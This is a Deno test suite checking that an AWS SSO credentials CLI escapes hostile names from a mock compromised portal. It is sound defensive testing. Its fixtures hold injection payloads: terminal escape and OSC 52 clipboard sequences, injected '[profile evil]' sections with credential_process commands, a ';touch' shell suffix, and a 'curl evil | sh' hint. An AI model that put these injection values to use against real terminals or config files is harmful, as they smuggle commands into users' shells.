/**
 * A hostile (or compromised) SSO portal: account names, emails and role names full of terminal
 * escapes (ESC, BEL, OSC 52, 8-bit CSI), carriage returns, line feeds that try to start a new
 * `[profile]` with its own `credential_process`, a shell command in a role name, and a bidi
 * override. `cache`, `list`, `list --csv`, `tags`, `setup profiles --print` and the real write
 * of ~/.aws/config run as the user runs them; none of them may put a raw control character on
 * the terminal or in ~/.aws/config, the AWS CLI must see no injected profile, and running the
 * written `credential_process` lines the way the JS and Go SDKs do (`sh -c`) must run nothing.
 * The same holds for a cache written by an older release that kept the names raw, and for an
 * error message a portal sends back.
 */
import assert from "node:assert/strict";
import { AWS_CLI, awsCliPresent } from "../emulator/aws_cli.ts";
import { type DirectoryAccount, type Emulator, startEmulator } from "../emulator/emulator.ts";
import { cli, CONFIG_DIR, credsSession, E2E } from "./_creds_session.ts";
import { type CliResult, runCli } from "./run_cli.ts";

/** Raw characters that must never be printed or written (line feeds and tabs are layout). */
// deno-lint-ignore no-control-regex -- control characters are what this test looks for
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07";
const DIRECTORY: DirectoryAccount[] = [
  {
    accountId: "012345678901",
    accountName: `prod${OSC52}\x9b2J\rstaging`,
    emailAddress: "root\x1b[8m@example.com",
    roles: ["AdministratorAccess"],
  },
  {
    accountId: "123456789012",
    accountName: "x\n[profile evil]\ncredential_process = sh -c 'touch PWNED_ALIAS'",
    emailAddress: "ops@example.com\u202e",
    roles: [
      "Dev\x1b[2J\n[profile evil2]\ncredential_process = touch PWNED_ROLE",
      "Ops;touch PWNED_SHELL",
    ],
  },
];
const ROLE_COUNT = DIRECTORY.flatMap((a) => a.roles).length;

function assertNoRaw(r: CliResult, what: string): void {
  assert.doesNotMatch(r.stdout, RAW, `${what}: stdout ${JSON.stringify(r.stdout)}`);
  assert.doesNotMatch(r.stderr, RAW, `${what}: stderr ${JSON.stringify(r.stderr)}`);
}

async function run(home: string, emu: Emulator, args: string[]): Promise<CliResult> {
  const r = await cli(home, emu, args);
  assert.equal(r.code, 0, `${args.join(" ")}: ${r.stderr}`);
  assertNoRaw(r, args.join(" "));
  return r;
}

/** Profile section names in a config text. */
function sections(text: string): string[] {
  return [...text.matchAll(/^\[([^\n]*)\]$/gm)].map((m) => m[1]!);
}

/** What a release that stored names raw would have left in cache.json. */
function unescapeDeep(value: unknown): unknown {
  const raw = (s: string) =>
    s.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\n|\\r|\\t/g, (m, x, u) => {
      if (x !== undefined) return String.fromCharCode(parseInt(x, 16));
      if (u !== undefined) return String.fromCharCode(parseInt(u, 16));
      return m === "\\n" ? "\n" : m === "\\r" ? "\r" : "\t";
    });
  if (typeof value === "string") return raw(value);
  if (Array.isArray(value)) return value.map(unescapeDeep);
  if (value !== null && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [raw(k), unescapeDeep(v)]));
  }
  return value;
}

/** Runs every written credential_process line through `sh -c`, as the JS and Go SDKs do. */
async function runCredentialProcesses(home: string, emu: Emulator, config: string) {
  const lines = [...config.matchAll(/^credential_process = (.*)$/gm)].map((m) => m[1]!);
  assert.equal(lines.length, ROLE_COUNT, config);
  const cwd = await Deno.makeTempDir();
  try {
    for (const line of lines) {
      await new Deno.Command("sh", {
        args: ["-c", line],
        cwd,
        env: { ...emu.env, HOME: home },
        stdout: "null",
        stderr: "null",
      }).output();
    }
    const left: string[] = [];
    for await (const entry of Deno.readDir(cwd)) left.push(entry.name);
    assert.deepEqual(left, [], "a credential_process line ran a command of the portal's");
  } finally {
    await Deno.remove(cwd, { recursive: true });
  }
}

async function checkEveryView(home: string, emu: Emulator): Promise<void> {
  const table = await run(home, emu, ["list"]);
  // Header line, blank line, column names, `===`, one line per role, blank line.
  assert.equal(table.stdout.split("\n").length, 4 + ROLE_COUNT + 2, table.stdout);
  assert.match(table.stdout, /prod\\x1b\]52;c;ZWNobyBwd25lZA==\\x07\\x9b2J\\rstaging/);

  const csv = await run(home, emu, ["list", "--csv", "AccountAlias", "RoleName", "Arn"]);
  assert.equal(csv.stdout.split("\n").length, ROLE_COUNT + 1, csv.stdout);
  assert.match(csv.stdout, /^x\\n\[profile evil\]\\ncredential_process = sh -c 'touch/m);

  const tags = await run(home, emu, ["tags"]);
  assert.match(tags.stdout, /^ {2}Email: root\\x1b\[8m@example\.com$/m);
  assert.match(tags.stdout, /^ {2}Email: ops@example\.com\\u202e$/m);

  const printed = await run(home, emu, ["setup", "profiles", "--print"]);
  assert.doesNotMatch(printed.stdout, /^\[profile evil/m);
  assert.equal(sections(printed.stdout).length, ROLE_COUNT);
  // The role name with a shell command is one quoted word.
  assert.match(printed.stdout, / --arn 'arn:aws:iam::123456789012:role\/Ops;touch PWNED_SHELL'$/m);

  await run(home, emu, ["setup", "profiles", "--force"]);
  const config = await Deno.readTextFile(`${home}/.aws/config`);
  assert.doesNotMatch(config, RAW, JSON.stringify(config));
  const names = sections(config);
  assert.equal(names.length, ROLE_COUNT, config);
  assert.ok(names.every((n) => n.startsWith("profile ")), config);
  assert.doesNotMatch(config, /^\[profile evil|^credential_process = (sh|touch)/m, config);
  await runCredentialProcesses(home, emu, config);

  if (awsCliPresent()) await checkAwsCliView(home);
}

/** What the AWS CLI reads from ~/.aws/config: no profile of the portal's, no command of its. */
async function checkAwsCliView(home: string): Promise<void> {
  const aws = async (args: string[]) => {
    const out = await new Deno.Command(AWS_CLI, {
      args,
      clearEnv: true,
      env: { PATH: "/usr/bin:/bin", HOME: home, AWS_PAGER: "" },
      stdout: "piped",
      stderr: "piped",
    }).output();
    return { code: out.code, stdout: new TextDecoder().decode(out.stdout).trim() };
  };
  const listed = await aws(["configure", "list-profiles"]);
  assert.equal(listed.code, 0);
  const profiles = listed.stdout.split("\n");
  // botocore splits `[profile ...]` headers like a shell (a name with spaces is skipped), so
  // it may list fewer names than were written, but never one the portal made up.
  assert.ok(profiles.length >= 1 && profiles.length <= ROLE_COUNT, listed.stdout);
  assert.ok(!profiles.some((p) => /^evil/.test(p)), listed.stdout);
  for (const profile of [...profiles, "evil", "evil2"]) {
    const got = await aws(["configure", "get", "credential_process", "--profile", profile]);
    if (profile.startsWith("evil")) {
      assert.notEqual(got.code, 0, `profile ${profile} exists: ${got.stdout}`);
    } else {
      assert.ok(got.stdout.startsWith(`${Deno.execPath()} run `), got.stdout);
      assert.match(got.stdout, / process --arn (\S+|'[^']*')$/);
    }
  }
}

Deno.test({
  name: "names with control characters from the portal never reach the terminal or ~/.aws/config",
  ...E2E,
  async fn() {
    await using emu = await startEmulator({ directory: DIRECTORY });
    const home = await credsSession(emu, {
      topYaml: "ProfileFormat: '{{ .AccountAlias }}/{{ .RoleName }}'",
    });
    try {
      const cache = await run(home, emu, ["cache", "--level", "trace"]);
      assert.match(
        cache.stdout,
        new RegExp(`^Updated cache: added=${ROLE_COUNT}, deleted=0$`, "m"),
      );
      const stored = await Deno.readTextFile(`${home}/${CONFIG_DIR}/cache.json`);
      // JSON would store a raw ESC as \u001b: the cache holds the escaped names only.
      assert.doesNotMatch(stored, /\\u00[01][0-9a-f]/i, stored);
      assert.doesNotMatch(stored, RAW, stored);
      await checkEveryView(home, emu);
    } finally {
      await Deno.remove(home, { recursive: true });
    }
  },
});

Deno.test({
  name: "a role cache written raw by an older release is shown and written escaped",
  ...E2E,
  async fn() {
    await using emu = await startEmulator({ directory: DIRECTORY });
    const home = await credsSession(emu);
    try {
      await run(home, emu, ["cache"]);
      const file = `${home}/${CONFIG_DIR}/cache.json`;
      const poisoned = JSON.stringify(unescapeDeep(JSON.parse(await Deno.readTextFile(file))));
      assert.ok(poisoned.includes("\\u001b]52;c;"), "the cache now holds raw ESC");
      await Deno.writeTextFile(file, poisoned);
      await checkEveryView(home, emu);
    } finally {
      await Deno.remove(home, { recursive: true });
    }
  },
});

Deno.test({
  name: "an error message from the portal is printed with its control characters escaped",
  ...E2E,
  async fn() {
    await using emu = await startEmulator({ accounts: 1 });
    const home = await credsSession(emu);
    const hostile = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen() {} },
      () =>
        Response.json(
          { message: `denied${OSC52}\r\nhint: run curl evil | sh\x9b2K` },
          { status: 403, headers: { "x-amzn-errortype": "ForbiddenException" } },
        ),
    );
    try {
      const url = `http://127.0.0.1:${hostile.addr.port}`;
      const r = await runCli(["cache", "--level", "trace"], {
        home,
        env: { ...emu.env, AWS_ENDPOINT_URL_SSO: url },
      });
      assert.equal(r.code, 1, r.stderr);
      assertNoRaw(r, "cache");
      assert.match(r.stderr, /denied\\x1b\]52;c;ZWNobyBwd25lZA==\\x07\\r/);
      assert.doesNotMatch(r.stderr, /^hint: run curl/m, "no forged hint line");
    } finally {
      await hostile.shutdown();
      await Deno.remove(home, { recursive: true });
    }
  },
});
